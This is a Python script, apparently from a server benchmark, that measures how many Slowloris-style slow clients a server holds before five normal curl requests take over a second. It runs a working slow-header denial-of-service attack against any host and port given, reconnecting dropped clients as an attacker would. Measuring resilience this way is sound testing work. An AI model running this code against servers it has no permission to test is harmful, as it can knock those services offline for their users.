#!/usr/bin/python3
"""Slowloris survival: how many slow clients a server holds before a normal request takes
over a second. Opens slow clients in steps (each sends a request line and then one header
line a second, never finishing its head; one closed by the server is opened again, as an
attacker would), and after each step times five normal GETs, each on a new connection. Prints the
largest step at which all five normal requests answered within the second, and the step
that broke it (or that none did).

usage: slowloris.py HOST PORT [STEPS, comma-separated; default 256,512,...,16384]
"""
import asyncio, resource, sys, time

HOST, PORT = sys.argv[1], int(sys.argv[2])
# plain.test: a name the bench holds no certificate for, so the gateway proxies it rather
# than redirecting to HTTPS.
STEPS = [int(s) for s in (sys.argv[3] if len(sys.argv) > 3 else "256,512,1024,2048,4096,8192,16384").split(",")]
# Normal requests timed at each step; the step counts as survived only if all answer
# within the second.
NORMALS = 5
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


# Slow clients connected right now: a server that refuses or closes them holds fewer than
# were started, which the printed line shows.
held = 0


async def slow_client(stop):
    global held
    while not stop.is_set():
        try:
            r, w = await asyncio.open_connection(HOST, PORT)
        except OSError:
            await asyncio.sleep(0.5)
            continue
        held += 1
        try:
            w.write(b"GET / HTTP/1.1\r\nHost: plain.test\r\n")
            while not stop.is_set():
                await asyncio.sleep(1)
                w.write(b"X-Slow: 1\r\n")
                await w.drain()
                if r.at_eof():
                    break
        except OSError:
            await asyncio.sleep(0.5)
        finally:
            held -= 1
            # Closed here, not left to the collector: a server that closes slow clients
            # made them reconnect faster than their sockets were freed, and this process
            # ran out of descriptors (EMFILE) at 16384.
            w.close()


async def normal():
    """A normal request by curl, a process of its own: its time is the server's, not this
    loop's, busy with thousands of slow clients."""
    p = await asyncio.create_subprocess_exec(
        "curl", "-s", "-o", "/dev/null", "-m", "5", "-H", "Host: plain.test",
        "-w", "%{http_code} %{time_total}", f"http://{HOST}:{PORT}/",
        stdout=asyncio.subprocess.PIPE)
    out, _ = await p.communicate()
    code, took = (out.decode().split() + ["0", "5"])[:2]
    return code == "200", float(took)


async def main():
    stop = asyncio.Event()
    tasks, survived, broke = [], 0, None
    for n in STEPS:
        while len(tasks) < n:
            tasks.append(asyncio.create_task(slow_client(stop)))
            if len(tasks) % 200 == 0:
                await asyncio.sleep(0.05)
        await asyncio.sleep(3)  # every slow client connected and trickling
        # Several normal requests, one after another: one alone passed or failed by luck
        # against an nginx out of connections (it frees some now and then), so the same
        # server gave 2048 in one run and none in the next.
        results = [await normal() for _ in range(NORMALS)]
        good = sum(1 for ok, took in results if ok and took <= 1.0)
        slowest = max(took for _, took in results)
        print(f"  {n} slow clients ({held} connected): {good} of {NORMALS} normal requests answered within 1 s (slowest {slowest*1000:.0f} ms)", file=sys.stderr)
        ok, took = good == NORMALS, slowest
        if ok and took <= 1.0:
            survived = n
        else:
            broke = n
            break
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(f"{survived} {broke if broke else 'none'}")


asyncio.run(main())
